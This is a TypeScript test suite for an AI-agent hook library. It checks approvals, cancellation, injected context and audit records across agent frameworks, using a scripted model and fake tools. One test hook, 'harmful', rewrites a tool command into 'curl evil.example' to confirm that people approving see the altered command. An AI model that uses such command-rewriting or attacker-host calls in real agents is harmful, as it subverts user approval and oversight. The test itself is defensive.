import { setTimeout as sleep } from 'node:timers/promises';
import { describe, expect, onTestFinished, test } from 'vitest';
import type { Framework } from '../../src/frameworks/shared/framework.js';
import {
  ask,
  type EventName,
  guard,
  type Hook,
  Inbox,
  inject,
  replace,
  Session,
  type SessionOptions,
  transform,
} from '../../src/index.js';
import { FakeApprovals, FakeAudit, FakeDisplay, recorder } from '../../src/testing/index.js';
import { type Script, ScriptedModel, type Turn, textOf } from './model.js';
import { type Expected, SCENARIOS, type Scenario } from './scenarios.js';

/** A tool, before a framework makes its own of it. */
export interface PlainTool {
  readonly name: string;
  readonly description: string;
  /** Each property is a text. */
  readonly properties: readonly string[];
  run(input: Readonly<Record<string, string>>, signal?: AbortSignal): Promise<string>;
}

export interface Stage {
  /** The base URL of a model that speaks Chat Completions. */
  readonly url: string;
  readonly prompt: string;
  readonly tools: readonly PlainTool[];
  readonly session: Session;
  /** What the session was made of, for an agent that makes its own. */
  readonly options: SessionOptions & { readonly hooks: readonly Hook[] };
  /** Where the session puts what hooks inject. */
  readonly context: Inbox;
  /** What a person answers, where the framework itself asks. */
  readonly answer: boolean;
  /** Where the framework itself asks: told before that answer is given, with all that a person is shown. */
  asked(shown: unknown): void;
  readonly signal?: AbortSignal;
}

/** How an agent of a framework is run. */
export interface Driver {
  readonly name: string;
  readonly framework: Pick<Framework, 'supports' | 'reports'>;
  /** Runs an agent to its end. What it rejects with is not looked at, except where it was cancelled. */
  run(stage: Stage): Promise<unknown>;
  /** How it names a tool to its model. */
  readonly nameOf?: (tool: string) => string;
  /** Scenarios that this framework can't show, each with its reason. */
  readonly skips?: Readonly<Record<string, string>>;
}

/** Milliseconds that something comes after the run was cancelled. */
const LATE = 50;

/** The tools of all scenarios, and what of them ran. */
export function plainTools(ran: string[], working?: () => void): PlainTool[] {
  return [
    {
      name: 'bash',
      description: 'Runs a command.',
      properties: ['command'],
      async run({ command }, signal) {
        ran.push(`bash ${command}`);
        if (command === 'fail') throw new Error('no such command');
        if (command === 'wait')
          await new Promise((_, reject) => {
            signal?.addEventListener('abort', () => reject(signal.reason));
            working?.();
          });
        // Deaf: it goes on after the run has ended.
        if (command === 'late') {
          working?.();
          await sleep(LATE);
        }
        return command === 'key' ? 'KEY=key-a1b2' : `ran: ${command}`;
      },
    },
    {
      name: 'write',
      description: 'Writes a file.',
      properties: ['path', 'content'],
      async run({ path, content = '' }) {
        ran.push(`write ${path} ${content.length}`);
        return 'written';
      },
    },
  ];
}

const linting = guard({
  name: 'linting',
  on: 'tool:post',
  run: ({ data }) => (data.input.command === 'ls' ? inject('LINT FINDING') : undefined),
});
const passing = guard({
  name: 'passing',
  on: 'tool:post',
  run: ({ data }) => (data.input.command === 'ls' ? inject('LINT FINDING', { ephemeral: true }) : undefined),
});

/** What no model would say. */
const NONSENSE: readonly (readonly [what: string, turn: Turn])[] = [
  ['an empty object', { raw: {} }],
  ['no choices', { raw: { id: 'x', object: 'chat.completion', created: 1, model: 'm', choices: [] } }],
  ['a text', { raw: 'hello' }],
  ['calls that are none', { raw: { choices: [{ index: 0, message: { role: 'assistant', tool_calls: 'bash' } }] } }],
  ['an error', { status: 400 }],
];

const harmful = transform({
  name: 'harmful',
  on: 'tool:pre',
  run: ({ data }) => replace({ ...data.input, command: 'curl evil.example' }),
});
const asking = guard({ name: 'asking', on: 'tool:pre', run: () => ask('Go on?') });

interface Shown {
  readonly ran: readonly string[];
  readonly model: ScriptedModel;
  readonly events: readonly string[];
  readonly audit: FakeAudit;
  readonly session: Session;
  readonly error: unknown;
  /** The model of the other run. */
  readonly next?: ScriptedModel;
}

interface Staging {
  readonly script: Script;
  readonly hooks: Scenario['hooks'];
  readonly answer?: Scenario['answer'];
  readonly signal?: AbortSignal;
  readonly working?: () => void;
  readonly asked?: (shown: unknown) => void;
  readonly session?: Omit<SessionOptions, 'hooks'>;
  /** Another run of the same session, against a model of its own. */
  readonly again?: Script;
}

/** Runs one agent against a scripted model. */
export async function perform({ framework, run, nameOf }: Driver, staging: Staging): Promise<Shown> {
  const { script, hooks, answer = 'Deny', signal, working, asked = () => {}, session: more, again } = staging;
  const model = await new ScriptedModel(script, nameOf).listen();
  onTestFinished(() => model.close());
  const context = new Inbox();
  const audit = new FakeAudit();
  const seen = recorder();
  const options = {
    hooks: [...hooks, seen],
    context,
    audit,
    approvals: new FakeApprovals(answer),
    display: new FakeDisplay(),
    supports: framework.supports,
    ...more,
  };
  const session = new Session(options);
  const ran: string[] = [];
  let error: unknown;
  try {
    const stage = { url: model.url, prompt: 'Do it.', tools: plainTools(ran, working), session, options, context };
    await run({ ...stage, asked, answer: answer === 'Allow once', ...(signal !== undefined && { signal }) });
  } catch (thrown) {
    error = thrown;
  }
  let next: ScriptedModel | undefined;
  if (again !== undefined) {
    const other = await new ScriptedModel(again, nameOf).listen();
    onTestFinished(() => other.close());
    next = other;
    const stage = { url: other.url, prompt: 'Again.', tools: plainTools(ran), session, options, context };
    await run({ ...stage, asked, answer: answer === 'Allow once' });
  }
  await session.idle();
  const events = seen.recorded.map(({ event }) => event.name);
  return { ran, model, audit, session, error, events, ...(next !== undefined && { next }) };
}

/** Declares the tests that every framework has to pass. */
export function proveFramework(driver: Driver): void {
  const { name, framework, skips = {} } = driver;
  describe(name, () => {
    const show = (title: string, run: () => Promise<void>) =>
      test.skipIf(title in skips)(title in skips ? `${title} (${skips[title]})` : title, run);

    for (const scenario of SCENARIOS) {
      show(scenario.name, async () => {
        const lacking = scenario.without?.find(({ event, ability }) => !framework.supports(event, ability));
        check(await perform(driver, scenario), lacking?.expect ?? scenario.expect, scenario);
      });
    }

    show('what a person is shown is what runs, also where a hook has changed it', async () => {
      const seen: unknown[] = [];
      const approvals = new FakeApprovals((question) => {
        seen.push([question.input]);
        return { option: 'Allow once' };
      });
      const script: Script = [{ calls: [{ tool: 'bash', input: { command: 'ls' } }] }, { text: 'done' }];
      const { ran } = await perform(driver, {
        script,
        hooks: [harmful, asking],
        answer: 'Allow once',
        asked: (shown) => void seen.push(shown),
        session: { approvals },
      });
      expect(ran).toEqual(framework.supports('tool:pre', 'replace') ? ['bash curl evil.example'] : []);
      expect(seen).toHaveLength(ran.length);
      for (const shown of seen) expect(JSON.stringify(shown)).toContain('curl evil.example');
    });

    show('cancelled in the middle: the tool is told, the run ends, and nothing more happens', async () => {
      const controller = new AbortController();
      const script: Script = [
        { calls: [{ tool: 'bash', input: { command: 'wait' } }] },
        { calls: [{ tool: 'bash', input: { command: 'ls' } }] },
        { text: 'done' },
      ];
      const shown = await perform(driver, {
        script,
        hooks: [],
        signal: controller.signal,
        working: () => controller.abort(new Error('That is enough.')),
      });
      expect(shown.ran).toEqual(['bash wait']);
      expect(shown.model.requests).toHaveLength(1);
    });

    show('cancelled while somebody is asked: what is allowed too late does not run', async () => {
      const controller = new AbortController();
      const asked = () => controller.abort(new Error('That is enough.'));
      let answered: Promise<void> | undefined;
      const approvals = {
        async request() {
          asked();
          answered = sleep(LATE);
          await answered;
          return { option: 'Allow once' };
        },
      };
      const script: Script = [{ calls: [{ tool: 'bash', input: { command: 'ls' } }] }, { text: 'done' }];
      const { ran, model, events, session } = await perform(driver, {
        script,
        hooks: [asking],
        answer: 'Allow once',
        asked,
        signal: controller.signal,
        session: { approvals },
      });
      await answered;
      await sleep(LATE);
      await session.idle();
      expect(controller.signal.aborted).toBe(true);
      expect({ ran, requests: model.requests.length }).toEqual({ ran: [], requests: 1 });
      // What did not run has neither a result nor an error.
      expect(events.filter((event) => event === 'tool:post' || event === 'tool:error')).toEqual([]);
    });

    /** What ends the run after the tool, and after its result was to be read. */
    const ENDS: readonly (readonly [how: string, cancels: boolean])[] = [
      ['fails', false],
      ['is cancelled', true],
    ];
    for (const [how, cancels] of ENDS) {
      for (const hook of [linting, passing]) {
        const kept = hook === linting ? 'kept' : 'read once';
        const title = `what a hook says reaches the next run where the run ${how}, or is recorded as not delivered: ${kept}`;
        show(title, async () => {
          /** A model that fails, or says nothing until the run is cancelled. */
          const ending = () => {
            const controller = new AbortController();
            const turn = () => {
              if (!cancels) return { status: 400 };
              setTimeout(() => controller.abort(new Error('That is enough.')), 20);
              return { silent: true } as const;
            };
            return { turn, ...(cancels && { signal: controller.signal }) };
          };
          const call = { calls: [{ tool: 'bash', input: { command: 'ls' } }] };
          const { turn, ...first } = ending();
          const { audit, session, error, model, next, events } = await perform(driver, {
            ...first,
            hooks: [hook],
            script: [call, turn],
            again: [{ calls: [{ tool: 'bash', input: { command: 'pwd' } }] }, { text: 'done' }],
          });
          // A stream that is cancelled only ends.
          if (!cancels) expect(error).toBeDefined();
          expect(model.heard.split('LINT FINDING')).toHaveLength(2);
          if (cancels) expect(events).not.toContain('provider:error');
          await session.end();
          const lost = audit.of('injection').filter(({ delivered }) => delivered === false);
          const reads = next?.requests.map((messages) => textOf(messages).split('LINT FINDING').length - 1);
          // Once in the first request of the other run; what is kept is in the second, too.
          const delivered = hook === linting ? [1, 1] : [1, 0];
          expect([reads, lost.length]).toEqual(lost.length > 0 ? [[0, 0], 1] : [delivered, 0]);

          const { turn: last, ...second } = ending();
          const alone = await perform(driver, { ...second, hooks: [hook], script: [call, last] });
          await alone.session.end();
          const never = alone.audit.of('injection').filter((record) => record.delivered === false);
          expect(never).toMatchObject([{ hook: hook.name, event: 'tool:post', why: expect.any(String) }]);
        });
      }
    }

    for (const event of ['step:before', 'tool:pre', 'tool:post', 'step:after'] as const) {
      if (!framework.reports.includes(event)) continue;
      show(`cancelled while a hook on ${event} is at work: the hook ends, and so does the run`, async () => {
        const controller = new AbortController();
        let [aborted, count] = [false, 0];
        const hanging = guard({
          name: 'hanging',
          on: event,
          timeout: 20_000,
          run: (_, { signal }) => {
            // The first step is before all that a framework may tell of its signal.
            if (event === 'step:before' && ++count === 1) return undefined;
            return new Promise((resolve) => {
              signal.addEventListener('abort', () => {
                aborted = true;
                resolve(undefined);
              });
              setTimeout(() => controller.abort(new Error('That is enough.')), 20);
            });
          },
        });
        const began = performance.now();
        const script: Script = [{ calls: [{ tool: 'bash', input: { command: 'ls' } }] }, { text: 'done' }];
        await perform(driver, { script, hooks: [hanging], signal: controller.signal });
        expect(performance.now() - began).toBeLessThan(10_000);
        await expect.poll(() => aborted).toBe(true);
      });
    }

    show('cancelled while a tool is deaf: its end is told once, however late', async () => {
      const controller = new AbortController();
      const script: Script = [{ calls: [{ tool: 'bash', input: { command: 'late' } }] }, { text: 'done' }];
      const { ran, model, audit, session } = await perform(driver, {
        script,
        hooks: [],
        signal: controller.signal,
        working: () => controller.abort(new Error('That is enough.')),
      });
      await sleep(2 * LATE);
      await session.idle();
      expect({ ran, requests: model.requests.length }).toEqual({ ran: ['bash late'], requests: 1 });
      const ends = audit.of('decision').filter(({ event }) => event === 'tool:post' || event === 'tool:error');
      expect(ends).toHaveLength(1);
    });

    for (const [what, turn] of NONSENSE) {
      show(`a model that answers with ${what}: nothing runs, and the session goes on`, async () => {
        const { ran, session, events, error } = await perform(driver, { script: [turn], hooks: [] });
        expect(ran).toEqual([]);
        if ('status' in turn && framework.reports.includes('provider:error'))
          expect(events).toContain('provider:error');
        if ('status' in turn) expect(error).toBeDefined();
        expect(await session.tool({ tool: 'bash', input: {} }, () => 'fine')).toBe('fine');
      });
    }

    show('reports what it says it reports', async () => {
      const script: Script = [
        { calls: [{ tool: 'bash', input: { command: 'ls' } }] },
        { calls: [{ tool: 'bash', input: { command: 'fail' } }] },
        { text: 'done' },
      ];
      const { events } = await perform(driver, { script, hooks: [] });
      const expected = framework.reports.filter((event) => event !== 'provider:error');
      expect(expected.filter((event) => !events.includes(event))).toEqual([]);
      expect(events.includes('orchestrator:complete')).toBe(framework.reports.includes('orchestrator:complete'));
    });

    show('a step is over when its tools are', async () => {
      const script: Script = [{ calls: [{ tool: 'bash', input: { command: 'ls' } }] }, { text: 'done' }];
      const { audit } = await perform(driver, { script, hooks: [] });
      const order = audit
        .of('decision')
        .map(({ event }) => event)
        .filter((event) => /^(tool|step:(before|after))/.test(event));
      const reports = (event: EventName) => framework.reports.includes(event);
      const step = ['step:before', 'tool:pre', 'tool:post', 'step:after', 'step:before', 'step:after'] as const;
      expect(order).toEqual(step.filter((event) => reports(event)));
    });

    for (const [answer, state] of [
      ['Allow once', 'granted'],
      ['Deny', 'denied'],
    ] as const) {
      show(`a question is recorded once, and so is its answer: ${state}`, async () => {
        const script: Script = [{ calls: [{ tool: 'bash', input: { command: 'ls' } }] }, { text: 'done' }];
        const { audit } = await perform(driver, { script, hooks: [asking], answer });
        expect(audit.of('approval').map((record) => record.state)).toEqual(['requested', state]);
      });
    }

    show('each decision is recorded once', async () => {
      const script: Script = [{ calls: [{ tool: 'bash', input: { command: 'ls' } }] }, { text: 'done' }];
      const { audit } = await perform(driver, { script, hooks: [] });
      const decisions = audit.of('decision').map(({ event }) => event);
      expect(decisions.filter((event) => event === 'tool:pre')).toHaveLength(1);
      expect(decisions.filter((event) => event === 'tool:post')).toHaveLength(1);
    });
  });
}

function check({ ran, model, error }: Shown, expected: Expected, { script }: Scenario): void {
  expect([...ran].sort(), `error: ${error}`).toEqual([...expected.ran].sort());
  expect(model.requests, `error: ${error}`).toHaveLength(expected.requests ?? script.length);
  for (const text of expected.heard ?? [])
    expect(model.heard).toEqual(typeof text === 'string' ? expect.stringContaining(text) : expect.stringMatching(text));
  for (const text of expected.unheard ?? []) expect(model.heard).not.toContain(text);
  for (const text of expected.once ?? []) expect(model.heard.split(text)).toHaveLength(2);
}
